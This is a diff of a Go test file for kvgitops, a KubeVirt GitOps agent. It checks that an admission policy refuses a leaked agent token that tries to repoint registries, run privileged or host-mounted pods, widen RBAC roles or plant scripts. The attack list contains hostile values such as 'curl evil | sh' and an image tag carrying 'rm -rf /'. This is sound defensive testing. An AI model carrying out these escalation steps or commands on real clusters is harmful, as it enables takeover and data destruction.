@@ -1,6 +1,7 @@
 package executor_test
 
 import (
+	"bytes"
 	"context"
 	"os"
 	"strings"
@@ -15,18 +16,30 @@ import (
 	"k8s.io/client-go/dynamic"
 	"sigs.k8s.io/yaml"
 
+	"github.com/kvgitops/kvgitops/executor"
 	"github.com/kvgitops/kvgitops/planner"
 	"github.com/kvgitops/kvgitops/test/testenv"
 )
 
-// applyAdmissionPolicy installs deploy/admission-policy.yaml and waits until
-// the apiserver enforces it. Every executor test runs under it.
-func applyAdmissionPolicy(t testing.TB, env *testenv.Env) {
+// applyAdmissionPolicy installs deploy/admission-policy.yaml, with mirrors
+// added to its registries as a user configuring --release-image-registry
+// would, and waits until the apiserver enforces it. Every executor test
+// runs under it.
+func applyAdmissionPolicy(t testing.TB, env *testenv.Env, mirrors ...string) {
 	t.Helper()
 	data, err := os.ReadFile("../deploy/admission-policy.yaml")
 	if err != nil {
 		t.Fatal(err)
 	}
+	const registries = `expression: "['quay.io/kubevirt', 'docker.io/kubevirt', 'index.docker.io/kubevirt']"`
+	if !bytes.Contains(data, []byte(registries)) {
+		t.Fatalf("deploy/admission-policy.yaml has no %s", registries)
+	}
+	extra := ""
+	for _, m := range mirrors {
+		extra += ", '" + m + "'"
+	}
+	data = bytes.Replace(data, []byte(registries), []byte(strings.Replace(registries, "]", extra+"]", 1)), 1)
 	ctx := context.Background()
 	if err := testenv.Apply(ctx, env.Config, data); err != nil {
 		t.Fatalf("apply deploy/admission-policy.yaml: %v", err)
@@ -79,6 +92,29 @@ func TestAdmissionPolicyBoundsALeakedToken(t *testing.T) {
 		return obj(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"virt-operator","namespace":"` + ns + `"},
 			"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},
 			"spec":{"serviceAccountName":"` + sa + `","containers":[{"name":"c","image":"` + image + `"}]}}}}`)
+	}
+	const ownObject = "a second key in the agent's memory"
+	patchCR := func(patch string) func(dynamic.Interface) error {
+		return func(c dynamic.Interface) error {
+			_, err := c.Resource(kvGVR).Namespace("kubevirt").Patch(ctx, "kubevirt", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}
+	}
+	patchOperator := func(patch string) func(dynamic.Interface) error {
+		return func(c dynamic.Interface) error {
+			_, err := c.Resource(dep).Namespace("kubevirt").Patch(ctx, "virt-operator", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}
+	}
+	addRule := func(res schema.GroupVersionResource, ns, name, rule string) func(dynamic.Interface) error {
+		return func(c dynamic.Interface) error {
+			r := dynamic.ResourceInterface(c.Resource(res))
+			if ns != "" {
+				r = c.Resource(res).Namespace(ns)
+			}
+			_, err := r.Patch(ctx, name, types.JSONPatchType, []byte(`[{"op":"add","path":"/rules/-","value":`+rule+`}]`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}
 	}
 	attacks := []struct {
 		name string
@@ -133,6 +169,59 @@ func TestAdmissionPolicyBoundsALeakedToken(t *testing.T) {
 			_, err := c.Resource(gvr("", "v1", "namespaces")).Create(ctx, obj(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"evil"}}`), dry)
 			return err
 		}},
+		// The KubeVirt CR: only the image tag and registry move.
+		{"point KubeVirt at another registry", patchCR(`{"spec":{"imageRegistry":"evil.example.com/kubevirt"}}`)},
+		{"pin KubeVirt to a tag that is no release", patchCR(`{"spec":{"imageTag":"latest; rm -rf /"}}`)},
+		{"patch KubeVirt's components (customizeComponents)", patchCR(`{"spec":{"customizeComponents":{"patches":[{"resourceName":"virt-handler","resourceType":"DaemonSet","type":"strategic","patch":"{}"}]}}}`)},
+		{"let a delete take every VM (uninstallStrategy)", patchCR(`{"spec":{"uninstallStrategy":"RemoveWorkloads"}}`)},
+		{"change KubeVirt's configuration", patchCR(`{"spec":{"configuration":{"developerConfiguration":{"featureGates":["Root"]}}}}`)},
+		{"add a finalizer to the KubeVirt CR", patchCR(`{"metadata":{"finalizers":["example.com/hold"]}}`)},
+		{"label the KubeVirt CR", patchCR(`{"metadata":{"labels":{"example.com/x":"y"}}}`)},
+		// The operator Deployment, as Vet accepts it only.
+		{"virt-handler from another registry (VIRT_HANDLER_IMAGE)", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","env":[{"name":"VIRT_HANDLER_IMAGE","value":"evil.example.com/virt-handler:v1.8.4"}]}]}}}}`)},
+		{"an environment variable no release has", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"}]}]}}}}`)},
+		{"a privileged operator", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","securityContext":{"privileged":true,"allowPrivilegeEscalation":true}}]}}}}`)},
+		{"the host's root mounted into the operator", patchOperator(`{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`)},
+		{"another repository of KubeVirt's registry as the operator", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","image":"quay.io/kubevirt/virt-handler:v1.8.4"}]}}}}`)},
+		{"another command", patchOperator(`{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","command":["sh","-c","curl evil | sh"]}]}}}}`)},
+		{"an operator on the host's network", patchOperator(`{"spec":{"template":{"spec":{"hostNetwork":true}}}}`)},
+		{"the operator as another ServiceAccount", patchOperator(`{"spec":{"template":{"spec":{"serviceAccountName":"default"}}}}`)},
+		// Roles: no rule beyond a release's.
+		{"widen kubevirt-operator with impersonate", addRule(cr, "", "kubevirt-operator", `{"apiGroups":[""],"resources":["users","serviceaccounts"],"verbs":["impersonate"]}`)},
+		{"widen kubevirt-operator with bind", addRule(cr, "", "kubevirt-operator", `{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind"]}`)},
+		{"widen kubevirt-operator to delete every Secret", addRule(cr, "", "kubevirt-operator", `{"apiGroups":[""],"resources":["secrets"],"verbs":["delete"]}`)},
+		{"the namespaced operator role exec'ing into pods", addRule(gvr("rbac.authorization.k8s.io", "v1", "roles"), "kubevirt", "kubevirt-operator", `{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}`)},
+		{"kubevirt-operator using an SCC no release names", addRule(cr, "", "kubevirt-operator", `{"apiGroups":["security.openshift.io"],"resources":["securitycontextconstraints"],"verbs":["use"],"resourceNames":["anyuid"]}`)},
+		{"every namespace admin gets Secrets (kubevirt.io:operator aggregates to admin)", addRule(cr, "", "kubevirt.io:operator", `{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}`)},
+		// CRDs: a label added by an update does not make a CRD KubeVirt's.
+		{"claim a foreign CRD with KubeVirt's label", func(c dynamic.Interface) error {
+			_, err := c.Resource(crd).Patch(ctx, "leases.example.com", types.MergePatchType, []byte(`{"metadata":{"labels":{"app.kubernetes.io/managed-by":"virt-operator"}}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}},
+		// The agent's own memory: its one key, bounded.
+		{"a second key in the agent's memory", func(c dynamic.Interface) error {
+			cms := gvr("", "v1", "configmaps")
+			cm, err := admin.Resource(cms).Namespace("kvgitops").Get(ctx, "kvgitops-memory", metav1.GetOptions{})
+			if err != nil {
+				return err
+			}
+			_ = unstructured.SetNestedField(cm.Object, "curl evil | sh", "data", "script.sh")
+			_, err = c.Resource(cms).Namespace("kvgitops").Update(ctx, cm, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}},
+	}
+	// The agent's own rights (deploy/rbac-agent.yaml) and memory.
+	for _, f := range []string{"namespace.yaml", "serviceaccount.yaml", "rbac-agent.yaml"} {
+		data, err := os.ReadFile("../deploy/" + f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := testenv.Apply(ctx, env.Config, data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := testenv.Apply(ctx, env.Config, []byte(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"kvgitops-memory","namespace":"kvgitops"},"data":{"memory.json":"{}"}}`)); err != nil {
+		t.Fatal(err)
 	}
 	// A CRD nobody manages, for the CRD attack.
 	if _, err := admin.Resource(crd).Create(ctx, obj(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"leases.example.com"},
@@ -159,13 +248,76 @@ func TestAdmissionPolicyBoundsALeakedToken(t *testing.T) {
 		}
 	}
 	applyAdmissionPolicy(t, env)
+	// kvgitops deployed in a namespace of another name (kustomize
+	// `namespace:`) is bound all the same.
+	renamed := dynamic.NewForConfigOrDie(env.Impersonate("platform-gitops", "kvgitops"))
+	if err := testenv.Apply(ctx, env.Config, []byte(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"kvgitops-installer-renamed"},
+		"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kvgitops-installer"},
+		"subjects":[{"kind":"ServiceAccount","name":"kvgitops","namespace":"platform-gitops"}]}`)); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = admin.Resource(crb).Delete(context.Background(), "kvgitops-installer-renamed", metav1.DeleteOptions{})
+	})
 	for _, a := range attacks {
-		err := a.do(agent)
-		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "kvgitops-installer-bounds") {
-			t.Errorf("%s as the agent: %v, want denied by kvgitops-installer-bounds", a.name, err)
+		for who, c := range map[string]dynamic.Interface{"the agent": agent, "the agent in a renamed namespace": renamed} {
+			if c == renamed && a.name == ownObject {
+				continue // only its own namespace's ServiceAccount reaches it through RBAC
+			}
+			err := a.do(c)
+			if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "kvgitops-installer-bounds") {
+				t.Errorf("%s as %s: %v, want denied by kvgitops-installer-bounds", a.name, who, err)
+			}
 		}
 		if err := a.do(admin); err != nil {
 			t.Errorf("%s as an administrator: %v (the policy must bind the agent only)", a.name, err)
 		}
+	}
+}
+
+// TestAManifestTheClusterRefusesAppliesNothing: every object of a release
+// goes through admission before the first is written, so a refusal of the
+// last one (a policy whose registries no longer hold the release's image)
+// leaves the cluster as it was instead of half upgraded.
+func TestAManifestTheClusterRefusesAppliesNothing(t *testing.T) {
+	h := start(t, harnessOptions{})
+	env := testenv.Get(t)
+	h.install(t, "v1.7.4", planner.MethodOperator)
+	before := h.objectVersions(t)
+	data, err := os.ReadFile("../deploy/admission-policy.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	moved := bytes.Replace(data, []byte(`"['quay.io/kubevirt', 'docker.io/kubevirt', 'index.docker.io/kubevirt']"`), []byte(`"['mirror.example.com/kubevirt']"`), 1)
+	if err := testenv.Apply(t.Context(), env.Config, moved); err != nil {
+		t.Fatal(err)
+	}
+	agent := dynamic.NewForConfigOrDie(env.Impersonate("kvgitops", "kvgitops"))
+	// enforced waits until the apiserver refuses (or admits again) the
+	// operator Deployment as it is.
+	enforced := func(refused bool) {
+		for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
+			_, err := agent.Resource(gvr("apps", "v1", "deployments")).Namespace("kubevirt").Patch(context.Background(), "virt-operator", types.MergePatchType,
+				[]byte(`{"metadata":{"labels":{"probe":"x"}}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+			if apierrors.IsForbidden(err) == refused {
+				return
+			}
+			if time.Now().After(deadline) {
+				t.Fatalf("the policy is not in force after 30s: %v", err)
+			}
+		}
+	}
+	t.Cleanup(func() {
+		applyAdmissionPolicy(t, env)
+		enforced(false)
+	})
+	enforced(true)
+	before = h.objectVersions(t)
+	_, err2 := h.run(t, upgrade("v1.7.4", "v1.8.4", planner.MethodOperator), time.Minute)
+	if executor.ReasonOf(err2) != executor.ReasonForbidden || !executor.IsTerminal(err2) || !strings.Contains(err2.Error(), "nothing was applied") || !strings.Contains(err2.Error(), "Deployment virt-operator") {
+		t.Fatalf("the refused hop: %v", err2)
+	}
+	if after := h.objectVersions(t); before != after {
+		t.Errorf("objects changed although the manifest was refused:\nbefore %v\nafter  %v", before, after)
 	}
 }
